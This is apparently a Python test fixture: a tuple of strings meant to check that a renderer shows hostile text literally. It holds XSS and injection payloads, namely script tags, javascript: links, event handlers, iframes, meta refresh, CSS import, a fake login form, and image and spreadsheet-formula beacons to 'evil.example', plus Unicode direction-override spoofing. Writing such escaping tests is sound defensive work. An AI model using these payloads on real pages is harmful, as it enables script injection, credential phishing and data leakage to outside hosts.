"""Texts that try to be more than text. Each must be seen letter by letter and do nothing."""

HOST = "http://evil.example"

PAYLOADS: tuple[str, ...] = (
    "<script>window.pwned = 1; alert(1)</script>",
    f'<form action="{HOST}/form"><input name="secret"><button>Log in</button></form>',
    f"![picture]({HOST}/markdown.png)",
    "$\\unicode{x41}\\href{javascript:alert(2)}{x}$ and $$\\frac{1}{2}$$",
    "[click](javascript:alert(3))",
    f'<img src="{HOST}/image.png" onerror="window.pwned = 2">',
    '<svg onload="window.pwned = 3"><animate onbegin="alert(4)"/></svg>',
    f'<iframe src="{HOST}/frame"></iframe>',
    f"<style>@import url({HOST}/style.css); body {{ display: none }}</style>",
    '<a href="javascript:alert(5)">link</a>',
    f'<meta http-equiv="refresh" content="0;url={HOST}/meta">',
    ":material/home: :red[red] :streamlit: **bold** `code`",
    "&lt;script&gt;window.pwned = 4&lt;/script&gt;",
    f'<object data="{HOST}/object"></object><embed src="{HOST}/embed">',
    f'<link rel="stylesheet" href="{HOST}/link.css"><base href="{HOST}/">',
    "before \u202egnp.exe\u202c after \u200bzero\u200dwidth",
    '=HYPERLINK("' + HOST + '/cell")',
    "</div></article></bdi>--><!-- \"'><b>out</b>",
)
